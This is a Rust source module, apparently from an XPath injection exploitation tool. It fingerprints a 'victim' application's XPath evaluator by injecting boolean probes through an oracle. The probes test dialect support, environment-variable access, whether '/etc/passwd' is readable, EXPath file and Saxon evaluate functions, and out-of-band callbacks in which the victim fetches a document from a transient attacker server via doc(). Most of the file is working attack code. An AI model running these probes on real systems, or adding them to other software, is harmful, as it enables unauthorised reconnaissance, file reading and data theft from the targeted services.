//! Feature probing: boolean tests that narrow the victim's XPath dialect
//! (1.0 / 2.0 / 3.0 / 3.1) and discover optional extension functions.
//!
//! A feature is enabled iff every positive test answers true AND no
//! false-test answers true. The false tests exist because some evaluators
//! convert errors into a truthy page: an oracle that says yes to
//! `lower-case('A') = 'z'` is reporting errors, not XPath 2.0 support.

use crate::algorithms::ASCII_SEARCH_SPACE;
use crate::context::AttackContext;
use crate::error::Result;
use crate::injections::Injection;
use crate::request::check;
use crate::xpath::{func, fs_functions, saxon_functions, Expression};
use futures::future::{join_all, BoxFuture, FutureExt};
use tracing::debug;

type ExprFn = fn() -> Expression;

/// A single probe for a feature
pub enum FeatureTest {
    /// Plain expression submitted through the oracle
    Expression(ExprFn),
    /// OOB-scoped test: the victim must fetch the given path from our
    /// transient server for the probe to answer true
    OutOfBand(&'static str),
}

/// A probeable capability of the victim's XPath evaluator
pub struct Feature {
    pub name: &'static str,
    pub tests: Vec<FeatureTest>,
    /// Expressions that MUST answer false on a sane evaluator
    pub false_tests: Vec<ExprFn>,
}

fn search_space_index(needle: char) -> i64 {
    ASCII_SEARCH_SPACE.find(needle).unwrap_or(0) as i64
}

/// The feature catalog, probed in declaration order
pub fn features() -> Vec<Feature> {
    vec![
        Feature {
            name: "xpath-2",
            tests: vec![
                FeatureTest::Expression(|| func::lower_case("A").eq("a")),
                FeatureTest::Expression(|| func::ends_with("thetest", "test")),
                FeatureTest::Expression(|| func::encode_for_uri(Expression::string("test")).eq("test")),
            ],
            false_tests: vec![|| func::lower_case("A").eq("z")],
        },
        Feature {
            name: "xpath-3",
            tests: vec![FeatureTest::Expression(|| {
                func::boolean(func::generate_id(Expression::raw("/")))
            })],
            false_tests: vec![],
        },
        Feature {
            name: "xpath-3.1",
            tests: vec![FeatureTest::Expression(|| func::contains_token("a", "a"))],
            false_tests: vec![|| func::contains_token("a", "z")],
        },
        Feature {
            name: "normalize-space",
            tests: vec![FeatureTest::Expression(|| {
                func::normalize_space("  a  b ").eq("a b")
            })],
            false_tests: vec![|| func::normalize_space("  a  b ").eq("zzz")],
        },
        Feature {
            name: "substring-search",
            tests: vec![
                FeatureTest::Expression(|| {
                    func::string_length(func::substring_before(
                        ASCII_SEARCH_SPACE,
                        Expression::string("h"),
                    ))
                    .eq(search_space_index('h'))
                }),
                FeatureTest::Expression(|| {
                    func::string_length(func::substring_before(
                        ASCII_SEARCH_SPACE,
                        Expression::string("o"),
                    ))
                    .eq(search_space_index('o'))
                }),
            ],
            false_tests: vec![|| {
                func::string_length(func::substring_before(
                    ASCII_SEARCH_SPACE,
                    Expression::string("h"),
                ))
                .eq(9999_i64)
            }],
        },
        Feature {
            name: "codepoint-search",
            tests: vec![FeatureTest::Expression(|| {
                func::string_to_codepoints("test").index(1_u64).eq(116_i64)
            })],
            false_tests: vec![|| func::string_to_codepoints("test").index(1_u64).eq(999_i64)],
        },
        Feature {
            name: "environment-variables",
            tests: vec![FeatureTest::Expression(|| {
                func::exists(func::available_environment_variables())
            })],
            false_tests: vec![|| func::empty(func::available_environment_variables())],
        },
        Feature {
            name: "document-uri",
            tests: vec![FeatureTest::Expression(|| {
                func::document_uri(Expression::raw("/"))
            })],
            false_tests: vec![],
        },
        Feature {
            name: "base-uri",
            tests: vec![FeatureTest::Expression(func::base_uri)],
            false_tests: vec![],
        },
        Feature {
            name: "current-datetime",
            tests: vec![FeatureTest::Expression(|| {
                func::string(func::current_date_time())
            })],
            false_tests: vec![],
        },
        Feature {
            name: "unparsed-text",
            tests: vec![FeatureTest::Expression(|| {
                func::unparsed_text_available(func::document_uri(Expression::raw("/")))
            })],
            false_tests: vec![],
        },
        Feature {
            name: "doc-function",
            tests: vec![FeatureTest::Expression(|| {
                func::doc_available(func::document_uri(Expression::raw("/")))
            })],
            false_tests: vec![],
        },
        Feature {
            name: "linux",
            tests: vec![FeatureTest::Expression(|| {
                func::unparsed_text_available("/etc/passwd")
            })],
            false_tests: vec![],
        },
        Feature {
            name: "expath-file",
            tests: vec![FeatureTest::Expression(|| {
                func::string_length(fs_functions().call("current-dir", vec![])).gt(0_i64)
            })],
            false_tests: vec![],
        },
        Feature {
            name: "saxon",
            tests: vec![FeatureTest::Expression(|| {
                saxon_functions()
                    .call("evaluate", vec![Expression::string("1+1")])
                    .eq(2_i64)
            })],
            false_tests: vec![|| {
                saxon_functions()
                    .call("evaluate", vec![Expression::string("1+1")])
                    .eq(9_i64)
            }],
        },
        Feature {
            name: "oob-http",
            tests: vec![FeatureTest::OutOfBand("/test/data")],
            false_tests: vec![],
        },
        Feature {
            name: "oob-entity-injection",
            tests: vec![FeatureTest::OutOfBand("/test/entity")],
            false_tests: vec![],
        },
    ]
}

/// Run one OOB feature test: stand the server up, ask the victim to fetch
/// the marker document through `doc()`, and compare the marker. Answers
/// false outright when no OOB listener was configured.
async fn run_oob_test(
    context: &AttackContext,
    injector: &Injection,
    path: &str,
) -> Result<bool> {
    if context
        .oob_details
        .as_deref()
        .map(str::is_empty)
        .unwrap_or(true)
    {
        return Ok(false);
    }

    let (oob_ctx, server) = context.start_oob_server().await?;
    let url = format!(
        "{}{}",
        oob_ctx.oob_host.as_deref().unwrap_or_default(),
        path
    );
    let expr = func::doc(url)
        .add_path("/data")
        .eq(server.test_response_value());
    let payload = injector.render_expression(context.target_parameter_value(), &expr)?;
    let result = check(context, &payload).await;
    server.shutdown().await;
    result
}

fn expression_probe<'a>(
    context: &'a AttackContext,
    injector: &'a Injection,
    expr: Expression,
) -> BoxFuture<'a, Result<bool>> {
    async move {
        let payload = if context.injection.is_some() {
            expr.to_string()
        } else {
            injector.render_expression(context.target_parameter_value(), &expr)?
        };
        check(context, &payload).await
    }
    .boxed()
}

/// Probe every feature in declaration order. Tests within a feature run
/// concurrently; features run sequentially so a dependent probe can rely
/// on earlier state (the OOB tests rebind the same port, for one).
pub async fn detect_features(
    context: &AttackContext,
    injector: &Injection,
) -> Result<Vec<(Feature, bool)>> {
    let mut results = Vec::new();

    for feature in features() {
        let futures: Vec<BoxFuture<'_, Result<bool>>> = feature
            .tests
            .iter()
            .map(|test| match test {
                FeatureTest::Expression(build) => expression_probe(context, injector, build()),
                FeatureTest::OutOfBand(path) => run_oob_test(context, injector, path).boxed(),
            })
            .collect();
        let checks: Vec<bool> = join_all(futures).await.into_iter().collect::<Result<_>>()?;
        let positive_pass = checks.iter().all(|c| *c);

        // A known-false expression answering true means evaluator errors
        // are masquerading as truth; the feature cannot be trusted.
        let mut negative_pass = true;
        if positive_pass && !feature.false_tests.is_empty() {
            let futures: Vec<BoxFuture<'_, Result<bool>>> = feature
                .false_tests
                .iter()
                .map(|build| expression_probe(context, injector, build()))
                .collect();
            let false_checks: Vec<bool> =
                join_all(futures).await.into_iter().collect::<Result<_>>()?;
            if false_checks.iter().any(|c| *c) {
                negative_pass = false;
            }
        }

        let available = positive_pass && negative_pass;
        debug!(feature = feature.name, available, "feature probed");
        results.push((feature, available));
    }

    Ok(results)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_catalog_order_and_names() {
        let names: Vec<&str> = features().iter().map(|f| f.name).collect();
        assert_eq!(
            names,
            vec![
                "xpath-2",
                "xpath-3",
                "xpath-3.1",
                "normalize-space",
                "substring-search",
                "codepoint-search",
                "environment-variables",
                "document-uri",
                "base-uri",
                "current-datetime",
                "unparsed-text",
                "doc-function",
                "linux",
                "expath-file",
                "saxon",
                "oob-http",
                "oob-entity-injection",
            ]
        );
    }

    #[test]
    fn test_guarded_features_carry_false_tests() {
        for feature in features() {
            if matches!(
                feature.name,
                "xpath-2" | "xpath-3.1" | "normalize-space" | "substring-search"
                    | "codepoint-search" | "environment-variables" | "saxon"
            ) {
                assert!(!feature.false_tests.is_empty(), "{}", feature.name);
            }
        }
    }

    #[test]
    fn test_feature_expressions_render() {
        let xpath2 = &features()[0];
        if let FeatureTest::Expression(build) = &xpath2.tests[0] {
            assert_eq!(build().to_string(), "lower-case('A') = 'a'");
        } else {
            panic!("expected expression test");
        }
        assert_eq!(
            (xpath2.false_tests[0])().to_string(),
            "lower-case('A') = 'z'"
        );
    }
}
